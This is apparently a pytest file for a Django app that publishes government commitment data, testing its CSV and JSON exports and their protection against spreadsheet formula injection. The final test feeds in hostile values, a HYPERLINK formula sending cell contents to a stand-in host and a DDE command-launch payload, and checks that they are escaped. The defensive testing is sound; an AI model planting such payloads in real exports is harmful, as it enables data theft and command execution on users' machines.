import csv
import io
import json

import pytest

from apps.commitments import services
from apps.commitments.models import Measurement
from apps.commitments.views import CSV_COLUMNS

pytestmark = pytest.mark.django_db


@pytest.fixture
def data(make_commitment, measure, official):
    digital = make_commitment("Trường học số", title_en="Digital schools", officials=[official])
    wrong = measure(digital, 90, "2024-12-31", official, note_vi="nhầm")
    services.record_measurement(
        digital,
        official,
        value=60,
        valid_on=wrong.valid_on,
        note_vi="đúng",
        corrects=wrong,
        correction_reason="typo",
    )
    measure(digital, 95, "2025-06-30", official, status=Measurement.State.PENDING)
    hidden = make_commitment("Nháp", title_en="Draft", published=False)
    measure(hidden, 50, "2024-12-31", official)
    make_commitment("Chưa có số liệu", title_en="No data yet")
    return digital


def test_csv_has_stable_columns_and_every_approved_measurement(client, data):
    response = client.get("/en/commitments/data.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert list(rows[0]) == CSV_COLUMNS
    digital = [r for r in rows if r["commitment_slug"] == "truong-hoc-so"]
    assert [(r["value"], r["superseded"]) for r in digital] == [
        ("90.00", "true"),
        ("60.00", "false"),
    ]
    assert digital[1]["corrects_measurement_id"] == digital[0]["measurement_id"]
    assert digital[0]["latest_value"] == "60.00"
    assert digital[0]["progress_percent"] == "33.3"
    # Judged at the latest figure (31 Dec 2024): 33.3% of the way where the straight path asks
    # 40.0%, 6.7 points behind, within the at-risk margin.
    assert digital[0]["status"] == "at-risk"
    assert all(r["generated_at"] for r in rows)
    assert not [r for r in rows if r["commitment_slug"] == "nhap"]  # unpublished
    empty = [r for r in rows if r["commitment_slug"] == "chua-co-so-lieu"]
    assert len(empty) == 1
    assert empty[0]["measurement_id"] == ""


def test_json_has_commitments_with_their_measurements(client, data):
    response = client.get("/vi/commitments/data.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    payload = json.loads(response.getvalue())
    assert payload["generated_at"]
    slugs = [c["slug"] for c in payload["commitments"]]
    assert slugs == ["truong-hoc-so", "chua-co-so-lieu"]
    digital = payload["commitments"][0]
    assert digital["title_en"] == "Digital schools"
    assert digital["latest_value"] == "60.00"
    assert [m["value"] for m in digital["measurements"]] == ["90.00", "60.00"]
    assert digital["measurements"][0]["superseded"] is True
    assert digital["url"].endswith("/vi/commitments/truong-hoc-so/")


def test_csv_text_never_runs_as_a_spreadsheet_formula_and_json_stays_raw(
    client, make_commitment, measure, official
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    c = make_commitment(
        "@SUM(1+1)",
        title_en="+cmd|' /C calc'!A0",
        responsible_office_vi="-2+3",
        officials=[official],
    )
    wrong = measure(c, 10, "2024-12-31", official, note_vi=formula, note_en="\tTab")
    services.record_measurement(
        c,
        official,
        value=20,
        valid_on=wrong.valid_on,
        note_vi="ok",
        note_en="\rCR",
        corrects=wrong,
        correction_reason="=1+1",
    )
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/en/commitments/data.csv").getvalue().decode("utf-8-sig"))
        )
    )
    first, second = rows
    assert first["commitment_title_vi"] == "'@SUM(1+1)"
    assert first["commitment_title_en"] == "'+cmd|' /C calc'!A0"
    assert first["responsible_office_vi"] == "'-2+3"
    assert first["note_vi"] == f"'{formula}"
    assert first["note_en"] == "'\tTab"
    assert second["note_en"] == "'\rCR"
    assert second["correction_reason"] == "'=1+1"
    assert second["note_vi"] == "ok"
    assert (first["value"], first["baseline_value"]) == ("10.00", "40.00")  # numbers untouched
    data = json.loads(client.get("/en/commitments/data.json").getvalue())
    commitment = data["commitments"][0]
    assert commitment["title_vi"] == "@SUM(1+1)"
    assert commitment["measurements"][0]["note_vi"] == formula
    assert commitment["measurements"][1]["correction_reason"] == "=1+1"
